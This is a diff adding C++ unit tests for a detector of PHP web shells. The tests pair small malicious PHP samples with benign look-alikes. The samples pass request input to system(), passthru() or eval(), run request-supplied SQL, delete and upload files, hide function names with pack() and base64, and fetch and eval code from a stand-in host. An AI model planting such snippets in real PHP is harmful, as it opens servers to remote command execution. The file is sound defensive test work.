@@ -1,0 +1,144 @@
+// Deeper request-input taint (php_taint.h, behaviour.cc): request input carried through array
+// elements, list(), methods, the session, register_globals-era variables the page's own forms
+// send; SQL consoles and file managers; functions called from tables of decoded names. Each
+// technique has a hand-written positive and a benign look-alike that must stay quiet.
+#include <gtest/gtest.h>
+
+#include <algorithm>
+#include <string>
+#include <vector>
+
+#include "webroot/code_lexer.h"
+#include "webroot/normalize.h"
+
+namespace tq::webroot {
+namespace {
+
+std::vector<CodeTrait> Traits(std::string_view src) {
+  return Normalize(src, CodeKind::kPhp).traits;
+}
+
+// The strongest trait that stands alone (what a finding would be raised for), of one family.
+int Alone(const std::vector<CodeTrait>& t, std::string_view family = "") {
+  int s = 0;
+  for (const CodeTrait& c : t)
+    if (c.alone && (family.empty() || c.family == family)) s = std::max(s, c.strength);
+  return s;
+}
+
+bool Has(const std::vector<CodeTrait>& t, std::string_view id) {
+  return std::any_of(t.begin(), t.end(), [&](const CodeTrait& c) { return c.id == id; });
+}
+
+TEST(PhpTaint, ArrayElementsAndListCarryRequestInput) {
+  EXPECT_GE(Alone(Traits("<?php $p = array(); foreach ($_POST as $k => $v) $p[$k] = $v;"
+                         " system($p['cmd']);"),
+                  "exec"),
+            4);
+  EXPECT_GE(Alone(Traits("<?php $q = []; $q[] = $_COOKIE['c']; passthru($q[0]);"), "exec"), 4);
+  EXPECT_GE(Alone(Traits("<?php list($f, $a) = explode('|', $_COOKIE['d']); $f($a);"), "exec"), 4);
+  // An array of the application's own values, beside request input used as data only.
+  auto quiet = Traits(
+      "<?php $cfg['cmd'] = '/usr/bin/uptime'; $row['name'] = $_POST['name'];"
+      " echo htmlspecialchars($row['name']); system($cfg['cmd']);");
+  EXPECT_LT(Alone(quiet, "exec"), 3);
+}
+
+TEST(PhpTaint, MethodsAndTheSessionCarryRequestInput) {
+  // A class whose method evaluates its argument, fed request input kept in the session.
+  EXPECT_GE(Alone(Traits("<?php session_start(); if (isset($_POST['k'])) $_SESSION['p'] ="
+                         " base64_decode($_POST['k']); class Runner { function go($c) {"
+                         " eval($c); } } $r = new Runner(); $r->go($_SESSION['p']);"),
+                  "exec"),
+            4);
+  // A method called with the application's own values; the session holding a user id.
+  auto quiet = Traits(
+      "<?php session_start(); $_SESSION['uid'] = (int) $user->id; class View { function"
+      " render($tpl) { eval('?>' . $tpl); } } $v = new View(); $v->render($compiled);");
+  EXPECT_LT(Alone(quiet, "exec"), 3);
+}
+
+TEST(PhpTaint, RegisterGlobalsVariablesThePageSends) {
+  // <input name=cmd> and system($cmd), nothing setting $cmd: PHP < 5.4 filled it.
+  EXPECT_GE(Alone(Traits("<form method=post><input name=cmd><input type=submit></form>"
+                         "<?php if ($cmd) { echo '<pre>'; system($cmd); } ?>"),
+                  "exec"),
+            4);
+  EXPECT_GE(Alone(Traits("<?php echo \"<a href='?act=del&file=x'>del</a>\";"
+                         " if ($act == 'del') unlink($file); $d = opendir($dir);"
+                         " while ($e = readdir($d)) echo $e; ?>"
+                         "<form><input name=\"dir\"></form>"),
+                  "filemanager"),
+            3);
+  // Undefined variables no form sends: a template the application includes.
+  auto tpl = Traits("<?php eval('?>' . $compiled); system('convert ' . escapeshellarg($path));");
+  EXPECT_LT(Alone(tpl, "exec"), 3);
+  EXPECT_TRUE(Has(tpl, "php.undefined_to_exec"));  // counted only beside another trait
+  // A form field of the same name, in a file that includes others (the value is theirs).
+  auto included =
+      Traits("<?php include 'header.php'; ?><form><input name=cmd></form><?php system($cmd); ?>");
+  EXPECT_LT(Alone(included, "exec"), 3);
+  // Set by the file itself, or by a by-reference argument.
+  EXPECT_LT(
+      Alone(Traits("<form><input name=cmd></form><?php $cmd = 'uptime'; system($cmd);"), "exec"),
+      3);
+  EXPECT_LT(Alone(Traits("<form><input name=m></form><?php preg_match('/(ls)/', 'ls', $m);"
+                         " system($m[1]);"),
+                  "exec"),
+            3);
+}
+
+TEST(PhpTaint, UndefinedVariablesWritingFiles) {
+  auto w = Traits("<?php $fp = fopen($target, 'w'); fwrite($fp, $data); fclose($fp);");
+  EXPECT_TRUE(Has(w, "php.undefined_to_file"));
+  EXPECT_LT(Alone(w), 2);  // weak alone
+  auto r = Traits("<?php $fp = fopen($target, 'r'); echo fread($fp, 100);");
+  EXPECT_FALSE(Has(r, "php.undefined_to_file"));
+}
+
+TEST(PhpTaint, SqlConsolesAndFileManagers) {
+  // The request's SQL run on a connection the file opens: a database trait (medium), and
+  // high beside a file manager in the same file (two families agree, see findings.cc).
+  auto sql = Traits(
+      "<?php $db = new mysqli('localhost', 'shop', 'secret', 'shop');"
+      " $res = $db->query($_POST['sql']); while ($r = $res->fetch_row()) echo implode(',', $r);");
+  EXPECT_TRUE(Has(sql, "php.request_sql"));
+  EXPECT_EQ(Alone(sql, "database"), 2);
+  auto fm = Traits(
+      "<?php $d = $_GET['d']; foreach (scandir($d) as $f) echo $f;"
+      " if (isset($_GET['rm'])) unlink($_GET['rm']); if ($_FILES) move_uploaded_file("
+      "$_FILES['f']['tmp_name'], $d . '/' . basename($_FILES['f']['name']));");
+  EXPECT_GE(Alone(fm, "filemanager"), 3);
+  // A query with a request value inside a fixed template is an application, not a console.
+  auto app = Traits(
+      "<?php $db = new mysqli('localhost', 'shop', 'secret', 'shop');"
+      " $db->query('SELECT * FROM orders WHERE id = ' . (int) $_GET['id']);");
+  EXPECT_FALSE(Has(app, "php.request_sql"));
+  // A download script reading one file the request names is not a file manager.
+  auto dl = Traits("<?php readfile('/var/exports/' . basename($_GET['f']));");
+  EXPECT_FALSE(Has(dl, "php.request_file_manager"));
+}
+
+TEST(PhpTaint, FunctionsCalledFromTablesOfDecodedNames) {
+  EXPECT_GE(Alone(Traits("<?php $t = array('f' => pack('c*', 115, 121, 115, 116, 101, 109),"
+                         " 'a' => base64_decode('aWQ=')); $t['f']($t['a']);"),
+                  "exec"),
+            3);
+  EXPECT_GE(Alone(Traits("<?php $f = explode('|', base64_decode('ZmlsZV9nZXRfY29udGVudHN8YQ=='));"
+                         " $x = $f[0]($f[1]);"),
+                  "exec"),
+            3);
+  // A table of plain labels, its entries called as callbacks: a dispatcher.
+  EXPECT_LT(
+      Alone(Traits("<?php $h = array('a' => 'strtoupper', 'b' => 'trim'); echo $h['a']('x');"),
+            "exec"),
+      3);
+  // Pieces joined into a URL whose code is fetched and run.
+  EXPECT_GE(Alone(Traits("<?php $u = array('http', '://', 'code.example', '/x.txt');"
+                         " eval(file_get_contents(implode('', $u)));"),
+                  "exec"),
+            4);
+}
+
+}  // namespace
+}  // namespace tq::webroot
